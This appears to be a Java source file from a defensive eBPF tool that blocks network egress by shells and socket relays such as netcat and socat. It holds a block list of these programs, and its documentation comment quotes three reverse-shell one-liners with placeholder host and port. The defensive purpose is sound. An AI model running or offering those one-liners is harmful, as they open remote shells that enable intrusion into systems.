package io.agentguard.enforce;

import io.agentguard.bpf.BpfMap;

import java.lang.foreign.Arena;
import java.lang.foreign.MemorySegment;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

import static io.agentguard.abi.KernelAbi.AG_COMM_LEN;
import static java.lang.foreign.ValueLayout.JAVA_BYTE;

/**
 * The programs {@code egress.shells: deny} confines (connect.bpf.c shell_verdict): shells,
 * which connect only for {@code /dev/tcp|udp} redirections, and socket relays (netcat,
 * socat, telnet), which connect only for what they relay: {@code nc H P -e sh},
 * {@code sh -i </tmp/f | nc H P >/tmp/f}, {@code socat exec:sh tcp:H:P}.
 *
 * <p>By comm ({@code ag_shell_names}) and by identity ({@code ag_shell_exes}: each name
 * resolved on the standard PATH, symlinks followed, so {@code /bin/sh -> dash}, hard links and
 * {@code nc -> nc.openbsd} are one file; a script run as {@code ./job} is its interpreter).
 * busybox is a name only: by identity it would also be its wget and every other applet.
 * A renamed copy of a shell has neither: dup2/exec/fork on a socket (shell.bpf.c,
 * exec.deny_socket_shell) is what stops it.
 */
public final class ShellPrograms {
    static final List<String> SHELLS = List.of("sh", "bash", "dash", "zsh", "ksh", "ksh93", "mksh", "ash", "busybox");
    static final List<String> RELAYS = List.of("nc", "ncat", "netcat", "nc.openbsd", "nc.traditional", "socat", "telnet");
    /** Names matched by comm only: multi-call binaries whose other applets are not shells. */
    static final List<String> NAME_ONLY = List.of("busybox");

    private ShellPrograms() {
    }

    /** Every name the kernel matches by comm. */
    public static List<String> names() {
        List<String> all = new ArrayList<>(SHELLS);
        all.addAll(RELAYS);
        return all;
    }

    /** The files those names are on this host now (each once). */
    public static List<FileIdentity> find() {
        return find(io.agentguard.process.HostRoot.SLASH);
    }

    /** The files those names are on the host under host_root now (each once). */
    public static List<FileIdentity> find(io.agentguard.process.HostRoot host) {
        return ExeIdentitySet.onPath(host, names().stream().filter(n -> !NAME_ONLY.contains(n)).toList());
    }

    /** Writes the names (comm keys, NUL padded) and the identities; stale identities are removed. */
    public static void write(BpfMap names, BpfMap exes, List<FileIdentity> ids) {
        try (Arena arena = Arena.ofConfined()) {
            MemorySegment one = arena.allocate(1);
            one.set(JAVA_BYTE, 0, (byte) 1);
            for (String name : names()) {
                MemorySegment key = arena.allocate(AG_COMM_LEN);
                byte[] b = name.getBytes(StandardCharsets.UTF_8);
                MemorySegment.copy(b, 0, key, JAVA_BYTE, 0, Math.min(b.length, AG_COMM_LEN - 1));
                names.update(key, one);
            }
        }
        ExeIdentitySet.write(exes, ids);
    }
}
